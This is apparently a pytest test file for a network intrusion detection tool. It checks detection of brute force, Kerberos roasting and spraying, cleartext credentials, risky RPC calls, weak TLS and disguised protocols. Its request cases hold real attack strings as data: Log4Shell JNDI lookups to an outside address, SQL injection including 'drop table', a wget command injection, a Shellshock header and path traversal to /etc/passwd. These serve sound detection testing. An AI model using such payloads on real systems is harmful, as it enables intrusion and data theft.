"""Guessing, roasting, remote execution, weak TLS, attacks in requests, disguises: one that is and one that is none."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sentinel.sense.applications import (
    Certificate,
    Dcerpc,
    Ftp,
    Heartbeat,
    Http,
    Kerberos,
    Ldap,
    Mail,
    Rdp,
    RemoteShell,
    Smb,
    Telnet,
    Tls,
)
from sentinel.sense.detections.attacks import plain, resolved
from sentinel.sense.detections.directory import DRSUAPI, EFSR, EPM, NETLOGON, SAMR, SPOOLSS, SVCCTL, TASKS, WINREG, WMI
from sentinel.sense.detections.disguises import spoken
from sentinel.sense.findings import INFO
from sentinel.sense.records import SECOND, Dns, Flow, Record
from tests.sense.judging import found

PC, SERVER, DC, OUTSIDE = "10.20.1.50", "10.10.1.20", "10.10.1.2", "203.0.113.9"
START = 494_424 * 3_600 * SECOND
DAY = 86_400 * SECOND


def kinds(*records: Record, **tuning: dict[str, object]) -> set[str]:
    return {one.kind for one in found(records, tuning)}


def at(seconds: float) -> int:
    return START + int(seconds * SECOND)


def session(number: int, port: int, size: int, *, apart: float = 10, head: bytes = b"", dst: str = SERVER) -> Flow:
    return Flow(
        time=at(number * apart), end=at(number * apart + 2), src=PC, dst=dst, sport=40_000 + number, dport=port,
        proto=6, state="established", packets_out=9, packets_in=9, data_out=5, data_in=5, payload_out=size // 2,
        payload_in=size // 2, bytes_out=size, bytes_in=size, head_out=head, head_in=head,
    )  # fmt: skip


def test_ten_short_ssh_sessions_are_guessing_and_looks_at_the_banner_or_long_ones_are_none() -> None:
    assert kinds(*(session(number, 22, 4_600) for number in range(9))) == set()
    assert kinds(*(session(number, 22, 4_600) for number in range(10))) == {"brute.ssh"}
    assert kinds(*(session(number, 902, 4_600, head=b"SSH-2.0-x") for number in range(10))) >= {"brute.ssh"}
    assert kinds(*(session(number, 22, 80) for number in range(100))) == set()
    assert kinds(*(session(number, 22, 90_000) for number in range(100))) == set()
    assert kinds(*(session(number, 22, 4_600, apart=400) for number in range(30))) == set()


def test_short_rdp_sessions_are_guessing_and_the_name_is_told() -> None:
    wish = Rdp(time=at(90), src=PC, dst=SERVER, sport=40_009, dport=3389, proto=6, user="admin")
    told = found([wish, *(session(number, 3389, 2_400) for number in range(10))])
    assert {one.kind for one in told} == {"brute.rdp"}
    assert "the last as admin" in told[-1].explanation


def test_refused_logins_are_counted_by_protocol() -> None:
    ends: dict[str, Any] = {"src": PC, "dst": SERVER, "sport": 50_000, "proto": 6}

    def ftp(count: int) -> list[Record]:
        reply = {"kind": "response", "code": 530, "user": "chef", "dport": 21, **ends}
        return [Ftp(time=at(n), frame=n, **reply) for n in range(count)]

    assert kinds(*ftp(9)) == set()
    assert kinds(*ftp(10)) == {"brute.ftp"}

    def mail(service: str, command: str, status: str, port: int) -> set[str]:
        told: list[Record] = []
        for n in range(10):
            both: dict[str, Any] = {"service": service, "dport": port, **ends}
            told += [
                Mail(time=at(n), frame=2 * n, command=command, mechanism="cram-md5", **both),
                Mail(time=at(n), frame=2 * n + 1, kind="response", status=status, **both),
            ]
        return {one for one in kinds(*told) if one.startswith("brute")}

    assert mail("pop", "PASS", "-ERR", 110) == {"brute.pop3"}
    assert mail("imap", "LOGIN", "NO", 143) == {"brute.imap"}
    assert mail("smtp", "AUTH", "535 5.7.8", 25) == {"brute.smtp"}
    assert mail("imap", "SELECT", "NO", 143) == set()

    def web(auth: str) -> set[str]:
        told: list[Record] = []
        for n in range(20):
            told += [
                Http(time=at(n), frame=2 * n, method="GET", uri="/", auth=auth, dport=80, **ends),
                Http(time=at(n), frame=2 * n + 1, kind="response", status=401, dport=80, **ends),
            ]
        return kinds(*told)

    assert web("basic") == {"brute.http", "cleartext.http_basic"}
    assert web("ntlm") == web("") == set()


def ticket(service: str, seconds: float = 0, etype: int = 23) -> Kerberos:
    return Kerberos(
        time=at(seconds), src=PC, dst=DC, dport=88, proto=6, message="TGS-REP", user="azubi", service=service,
        ticket_etype=etype,
    )  # fmt: skip


def test_weak_tickets_for_five_services_are_roasted_and_one_is_noted() -> None:
    (noted,) = found([ticket("cifs/fs1")])
    assert (noted.kind, noted.severity) == ("krb.rc4_ticket", INFO)
    assert kinds(*(ticket(f"mssql/db{n}", n) for n in range(4))) == {"krb.rc4_ticket"}
    assert kinds(*(ticket(f"mssql/db{n}", n) for n in range(5))) == {"krb.rc4_ticket", "krb.kerberoast"}
    assert kinds(*(ticket(f"mssql/db{n}", n * 20) for n in range(9))) == {"krb.rc4_ticket"}
    assert kinds(*(ticket(f"mssql/db{n}", n, etype=18) for n in range(9)), ticket("krbtgt/CITY.EXAMPLE")) == set()
    assert kinds(*(ticket(f"cifs/fs{n}", n) for n in range(9))) == {"krb.rc4_ticket"}


def asked(user: str, n: int, error: int = 24) -> list[Record]:
    ends: dict[str, Any] = {"src": PC, "dst": DC, "sport": 50_000 + n, "dport": 88, "proto": 6}
    return [
        Kerberos(time=at(n), frame=2 * n, message="AS-REQ", user=user, **ends),
        Kerberos(time=at(n), frame=2 * n + 1, message="ERROR", error=error, **ends),
    ]


def test_many_accounts_that_are_refused_are_sprayed_and_the_first_answer_of_every_login_is_no_refusal() -> None:
    assert kinds(*(one for n in range(5) for one in asked(f"user{n}", n))) == {"krb.spray"}
    assert kinds(*(one for n in range(4) for one in asked(f"user{n}", n))) == set()
    assert kinds(*(one for n in range(40) for one in asked(f"user{n}", n, error=25))) == set()
    assert kinds(*(one for n in range(40) for one in asked("chef", n))) == set()
    known = (one for n in range(40) for one in asked(f"user{n}", n)[:1])
    assert kinds(*known, *asked("chef", 41), *asked("chef", 42)) == set()


@pytest.mark.parametrize(
    ("record", "kind"),
    [
        (Ftp(time=START, command="PASS", user="chef"), "cleartext.ftp"),
        (Ftp(time=START, command="PASS", user="anonymous"), None),
        (Ftp(time=START, command="USER", user="chef"), None),
        (Telnet(time=START, kind="password"), "cleartext.telnet"),
        (Telnet(time=START, kind="login"), None),
        (Http(time=START, auth="basic", user="chef"), "cleartext.http_basic"),
        (Http(time=START, auth="negotiate"), None),
        (Http(time=START, method="POST", form=("benutzer", "Kennwort")), "cleartext.http_form"),
        (Http(time=START, method="POST", form=("suche",)), None),
        (Ldap(time=START, operation="bindRequest", auth="simple", user="cn=chef"), "cleartext.ldap"),
        (Ldap(time=START, operation="bindRequest", auth="sasl", user="cn=chef"), None),
        (RemoteShell(time=START, server_user="root"), "cleartext.rsh"),
        (Mail(time=START, service="pop", command="PASS", user="chef"), "cleartext.pop3"),
        (Mail(time=START, service="imap", command="login", user="chef"), "cleartext.imap"),
        (Mail(time=START, service="smtp", command="AUTH", mechanism="plain"), "cleartext.smtp"),
        (Mail(time=START, service="smtp", command="AUTH", mechanism="cram-md5"), None),
        (Mail(time=START, service="pop", command="STLS"), None),
    ],
)
def test_what_everybody_can_read_is_told(record: Record, kind: str | None) -> None:
    assert kinds(record) == ({kind} if kind else set())


def smb(**more: Any) -> Smb:  # noqa: ANN401  whatever the record has
    return Smb(time=START, src=PC, dst=SERVER, dport=445, proto=6, **more)


def test_administrators_shares_and_the_pipes_of_remote_execution_are_told() -> None:
    assert kinds(smb(tree=r"\\fs1\ADMIN$")) == kinds(smb(tree=r"\\10.10.1.20\c$")) == {"smb.admin_share"}
    assert kinds(smb(tree=r"\\fs1\IPC$"), smb(tree=r"\\fs1\amt$"), smb(tree=r"\\fs1\akten")) == set()
    assert kinds(smb(file="svcctl")) == kinds(smb(file=r"PSEXESVC.exe")) == {"smb.remote_exec"}
    assert kinds(smb(file=r"akten\svcctl-anleitung.docx"), smb(file="srvsvc")) == set()
    allowed: dict[str, object] = {"admin_hosts": (PC,)}
    assert kinds(smb(tree=r"\\fs1\ADMIN$"), smb(file="svcctl"), directory=allowed) == set()


def test_smb_1_is_noted_and_an_offer_of_it_is_not() -> None:
    assert kinds(smb(version=1, kind="response", commands=(0x73,))) == {"smb.v1"}
    assert kinds(smb(version=1, commands=(0x72,)), smb(version=1, kind="response", commands=(0x72,))) == set()


def test_sizes_that_overflow_are_smbghost_and_compression_is_none() -> None:
    assert kinds(smb(compressed_offset=0xFFFFFFFF, compressed_size=16)) == {"exploit.smbghost"}
    assert kinds(smb(compressed_offset=0, compressed_size=4_096), smb(compression=True)) == set()


def call(interface: str, opnum: int, *, n: int = 0, src: str = PC, dst: str = DC) -> Dcerpc:
    return Dcerpc(time=at(n), frame=n, src=src, dst=dst, dport=135, proto=6, interface=interface, opnum=opnum)


@pytest.mark.parametrize(
    ("interface", "opnum", "kind"),
    [
        (SVCCTL, 12, "smb.remote_exec"), (SVCCTL, 15, None), (TASKS, 1, "smb.remote_exec"),
        (WMI, 24, "smb.remote_exec"),
        (DRSUAPI, 3, "dcerpc.dcsync"), (DRSUAPI, 5, "dcerpc.dcshadow"), (DRSUAPI, 12, None),
        (SPOOLSS, 65, "dcerpc.coercion"), (EFSR, 0, "dcerpc.coercion"), (SPOOLSS, 1, None), (SAMR, 13, "dcerpc.recon"),
        (SAMR, 34, None),
    ],
)  # fmt: skip
def test_an_operation_says_what_is_meant(interface: str, opnum: int, kind: str | None) -> None:
    assert kinds(call(interface, opnum)) == ({kind} if kind else set())


def test_controllers_replicate_among_each_other() -> None:
    gives = Kerberos(time=START, src=SERVER, dst=PC, message="AS-REP", user="chef")
    assert kinds(gives, call(DRSUAPI, 3)) == set()
    assert kinds(call(DRSUAPI, 3), directory={"domain_controllers": (PC,)}) == set()


def test_computers_log_in_and_whoever_tries_twenty_times_does_more() -> None:
    assert kinds(*(call(NETLOGON, 26, n=n) for n in range(19))) == set()
    assert kinds(*(call(NETLOGON, 26, n=n) for n in range(20))) == {"dcerpc.zerologon"}
    assert kinds(*(call(NETLOGON, 39, n=n) for n in range(99))) == set()


def test_who_asks_around_draws_a_map() -> None:
    assert kinds(*(call(SAMR, 33, dst=f"10.10.1.{n}") for n in range(1, 3))) == set()
    assert kinds(*(call(SAMR, 33, dst=f"10.10.1.{n}") for n in range(1, 4))) == {"dcerpc.recon"}
    assert kinds(*(call(EPM, 3, n=n) for n in range(19))) == set()
    assert kinds(*(call(EPM, 3, n=n) for n in range(20))) == {"dcerpc.recon"}
    bound = Dcerpc(time=START, src=PC, dst=DC, kind="bind", interface=WINREG)
    assert kinds(bound) == {"dcerpc.recon"}


def hello(**more: Any) -> Tls:  # noqa: ANN401  whatever the record has
    values = {
        "established": True,
        "version": "1.2",
        "cipher": "0xc02f",
        "sni": "www.stadt.example",
        "dst": OUTSIDE,
        **more,
    }
    return Tls(time=START, src=PC, sport=50_000, dport=443, proto=6, **values)


def shows(**more: Any) -> tuple[Certificate, ...]:  # noqa: ANN401  whatever the record has
    values: dict[str, Any] = {
        "subject": "www.stadt.example",
        "issuer": "Some CA",
        "not_before": START - DAY,
        "not_after": START + DAY,
    }
    return (Certificate(**values | more),)


def test_certificates_are_judged_at_capture_time() -> None:
    assert kinds(hello(certificates=shows())) == set()
    assert kinds(hello(certificates=shows(not_after=START - DAY))) == {"tls.expired"}
    assert kinds(hello(certificates=shows(not_before=START + DAY))) == {"tls.not_yet_valid"}
    assert kinds(hello(certificates=shows(self_signed=True))) == {"tls.selfsigned"}
    assert kinds(hello(certificates=shows(not_after=0, not_before=0))) == set()
    outside, inside = (found([hello(certificates=shows(self_signed=True), dst=one)]) for one in (OUTSIDE, SERVER))
    assert outside[0].severity > inside[0].severity
    assert (outside[0].src, outside[0].dst) == ("", OUTSIDE)


def test_what_is_weak_is_noted_only() -> None:
    for weak in (
        {"version": "1.1"},
        {"cipher": "0x0005"},
        {"cipher": "0xc012"},
        {"certificates": shows(key_bits=1_024)},
    ):
        (noted,) = found([hello(**weak)])
        assert (noted.kind, noted.severity) == ("tls.weak", INFO)
    assert kinds(hello(version="1.0", established=False), hello(cipher="0x1301", version="1.3")) == set()


def test_a_listed_fingerprint_is_told() -> None:
    listed: dict[str, object] = {"bad_ja3": ("0123456789abcdef0123456789abcdef",)}
    record = hello(ja3="0123456789abcdef0123456789abcdef")
    assert kinds(record, encryption=listed) == {"tls.bad_fingerprint"}
    assert kinds(record) == set()


def test_a_heartbeat_that_asks_for_more_than_it_sends_is_heartbleed() -> None:
    assert kinds(Heartbeat(time=START, claimed=16_384, length=3)) == {"exploit.heartbleed"}
    assert kinds(Heartbeat(time=START, claimed=16, length=35)) == set()


def request(uri: str = "/", **more: Any) -> Http:  # noqa: ANN401  whatever the record has
    return Http(time=START, src=PC, dst=SERVER, dport=80, proto=6, method="GET", uri=uri, host="amt24.example", **more)


@pytest.mark.parametrize(
    ("record", "kind"),
    [
        (request(user_agent="${jndi:ldap://203.0.113.9/a}"), "exploit.log4shell"),
        (request("/?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A//203.0.113.9/a%7D"), "exploit.log4shell"),
        (request("/?q=${${::-j}${env:NO:-n}${::-d}i:rmi://203.0.113.9/a}"), "exploit.log4shell"),
        (request("/?q=${name}"), None),
        (request("/?id=1%27%20OR%20%271%27=%271"), "exploit.sqli"),
        (request("/?id=1+union/**/all/**/select+1,2"), "exploit.sqli"),
        (request("/?id=1;drop%20table%20akten"), "exploit.sqli"),
        (request("/?id=1%2527%2520or%25201%253D1--"), "exploit.sqli"),
        (request("/?name=O%27Reilly&or=1"), None),
        (request("/?q=student+union+select+committee+members"), None),
        (request("/?q=trade+union+or+select+committee"), None),
        (request("/ping?host=192.0.2.1;wget+http://203.0.113.9/x"), "exploit.rce"),
        (request("/", head="User-Agent: () { :;}; /bin/id"), "exploit.rce"),
        (request("/index.php?-d+auto_prepend_file%3dphp://input"), "exploit.rce"),
        (request("/suche?q=curl;+katze"), None),
        (request("/bild?datei=..%2f..%2f..%2f..%2fetc%2fpasswd"), "exploit.traversal"),
        (request("/a/../b.css"), None),
        (Dns(time=START, kind="answer", qtype="SIG", size=65_400), "exploit.sigred"),
        (Dns(time=START, kind="answer", qtype="SIG", size=400), None),
        (request(kind="response", status=200, content_type="application/x-msdownload"), "malware.exe_download"),
        (request(kind="response", status=200, body=b"MZ\x90\x00"), "malware.exe_download"),
        (request(kind="response", status=404, content_type="application/x-msdownload"), None),
        (request(kind="response", status=200, content_type="text/html", body=b"<html>"), None),
    ],
)
def test_an_attack_shows_in_what_is_asked(record: Record, kind: str | None) -> None:
    assert kinds(record) == ({kind} if kind else set())


def test_updates_may_come_in_clear() -> None:
    update = Http(
        time=START,
        kind="response",
        status=200,
        host="download.windowsupdate.com",
        content_type="application/x-msdownload",
    )
    assert kinds(update) == set()


@given(st.text(max_size=300), st.binary(max_size=200))
def test_no_request_is_too_strange(text: str, body: bytes) -> None:
    assert isinstance(found([request(text, head=text, user_agent=text, body=body)]), list)
    assert resolved(plain(text)) is not None


def test_the_first_bytes_betray_a_protocol() -> None:
    hello_tls = bytes.fromhex("16030100c8010000c40303") + bytes(13)
    smb_head = b"\x00\x00\x00\x45\xfeSMB" + bytes(8)
    assert spoken(hello_tls, b"") == "tls"
    assert [spoken(one, b"") for one in (b"GET / HTTP/1.1\r\n", smb_head, b"\x03\x00\x00\x13\x0e\xe0\x00\x00")] == [
        "http", "smb", "rdp",
    ]  # fmt: skip
    assert spoken(b"", b"SSH-2.0-dropbear") == "ssh"
    assert spoken(b"GETTER", b"+OK") == ""


def test_a_shell_behind_the_webs_port_is_told_and_what_is_right_there_is_not() -> None:
    def on(port: int, head: bytes) -> set[str]:
        return kinds(session(0, port, 90_000, head=head))

    assert on(80, b"SSH-2.0-x") == on(4444, b"SSH-2.0-x") == {"proto.odd_port"}
    assert on(443, b"\x05\x00secret") == {"proto.odd_port"}
    assert on(22, b"SSH-2.0-x") == on(8080, b"GET / HTTP/1.1") == on(2222, b"SSH-2.0-x") == on(5000, b"binary") == set()
    tuned: dict[str, object] = {"ports": ("4444/ssh",)}
    assert kinds(session(0, 4444, 90_000, head=b"SSH-2.0-x"), disguises=tuned) == set()


def test_a_relay_of_tor_shows_names_that_nobody_has() -> None:
    relay = hello(sni="www.qx7hbfzk3.com", certificates=shows(subject="www.mno5pqrs2tuv.net", issuer="www.abc.com"))
    assert kinds(relay) == {"tunnel.tor"}
    assert kinds(hello(sni="www.stadtwerke.com", certificates=shows(subject="www.stadtwerke.com"))) == set()


def test_programs_for_looking_after_computers_are_told_by_their_names() -> None:
    assert kinds(hello(sni="relay-1.net.anydesk.com")) == {"policy.remote_admin"}
    assert kinds(hello(sni="", certificates=shows(subject="AnyNet Relay"))) == {"policy.remote_admin"}
    assert kinds(Dns(time=START, name="router7.teamviewer.com.")) == {"policy.remote_admin"}
    assert kinds(Dns(time=START, name="notanydesk.com")) == set()
